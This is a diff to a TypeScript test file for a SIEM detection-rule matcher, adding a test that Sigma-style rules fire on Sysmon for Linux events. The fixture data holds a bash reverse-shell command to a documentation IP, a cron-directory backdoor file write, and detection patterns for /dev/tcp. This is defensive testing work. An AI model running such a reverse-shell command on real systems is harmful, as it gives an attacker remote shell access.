@@ -2,7 +2,7 @@
  * The matcher over events made by the project's own parsers from raw lines
  * written after the vendors' documentation (Sysmon and Windows Security event
  * schemas, Linux audit and sshd/sudo formats, CloudTrail record contents,
- * nginx/Apache access log formats).
+ * nginx/Apache access log formats, Sysmon for Linux records).
  */
 import { randomUUID } from 'node:crypto';
 import { createParser } from '@siem/parsers';
@@ -282,6 +282,47 @@ describe('compileRules – log sources and parsers', () => {
     });
     expect(matches(rule({ product: 'windows', category: 'ps_script' }, { selection: { 'ScriptBlockText|contains': 'invoke-mimikatz' }, condition: 'selection' }), script)).toBe(true);
     expect(matches(rule(WINDOWS_PROCESS, { selection: { 'CommandLine|contains': 'mimikatz' }, condition: 'selection' }), script)).toBe(false);
+  });
+
+  it('rules – matches Sysmon for Linux records under Linux process_creation, file_event and network_connection', () => {
+    const sysmonLinux = (eventId: number, data: Record<string, string>): Record<string, unknown> =>
+      parse(
+        'syslog',
+        `<14>Nov 23 11:00:00 web-01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${eventId}</EventID>` +
+          '<Version>5</Version><Level>4</Level><TimeCreated SystemTime="2026-11-23T11:00:00.000000000Z"/><EventRecordID>7</EventRecordID>' +
+          '<Channel>Linux-Sysmon/Operational</Channel><Computer>web-01</Computer><Security UserId="0"/></System><EventData>' +
+          Object.entries(data).map(([name, value]) => `<Data Name="${name}">${value}</Data>`).join('') +
+          '</EventData></Event>',
+      );
+    const linuxProcess = { product: 'linux', category: 'process_creation' };
+    // Written as the corpus writes its Linux process_creation rules: Sigma field names of Sysmon, Unix paths.
+    const reverseShell = rule(linuxProcess, {
+      selection_img: { 'Image|endswith': ['/bash', '/dash', '/sh'] },
+      selection_cli: { 'CommandLine|contains|all': ['-i', '/dev/tcp/'] },
+      filter_root: { User: 'root', 'ParentImage|startswith': '/usr/sbin/' },
+      condition: 'all of selection_* and not filter_root',
+    });
+    const started = sysmonLinux(1, {
+      ProcessId: '31337',
+      Image: '/usr/bin/bash',
+      CommandLine: 'bash -i &gt;&amp; /dev/tcp/198.51.100.23/4444 0&gt;&amp;1',
+      CurrentDirectory: '/var/www/html',
+      User: 'www-data',
+      ParentProcessId: '31300',
+      ParentImage: '/usr/bin/python3.11',
+      ParentCommandLine: 'python3 app.py',
+    });
+    expect(matches(reverseShell, started)).toBe(true);
+    expect(matches(rule(linuxProcess, { selection: { 'process.parent.name': 'python3.11', 'process.command_line|contains': '/dev/tcp/' }, condition: 'selection' }), started)).toBe(true);
+    expect(matches(reverseShell, sysmonLinux(1, { Image: '/usr/bin/bash', CommandLine: 'bash -c ls', User: 'www-data' }))).toBe(false);
+    expect(matches(rule(WINDOWS_PROCESS, { selection: { 'CommandLine|contains': '/dev/tcp/' }, condition: 'selection' }), started)).toBe(false);
+
+    const cron = sysmonLinux(11, { ProcessId: '31340', Image: '/usr/bin/cp', TargetFilename: '/etc/cron.d/backdoor', User: 'root' });
+    expect(matches(rule({ product: 'linux', category: 'file_event' }, { selection: { 'TargetFilename|startswith': '/etc/cron.d/' }, condition: 'selection' }), cron)).toBe(true);
+    expect(matches(reverseShell, cron)).toBe(false);
+
+    const connect = sysmonLinux(3, { Image: '/usr/bin/bash', Protocol: 'tcp', Initiated: 'true', SourceIp: '10.20.0.5', SourcePort: '51544', DestinationIp: '198.51.100.23', DestinationPort: '4444' });
+    expect(matches(rule({ product: 'linux', category: 'network_connection' }, { selection: { Initiated: 'true', DestinationPort: 4444, 'Image|endswith': '/bash' }, condition: 'selection' }), connect)).toBe(true);
   });
 
   it('rules – matches auditd records by type and arguments', () => {
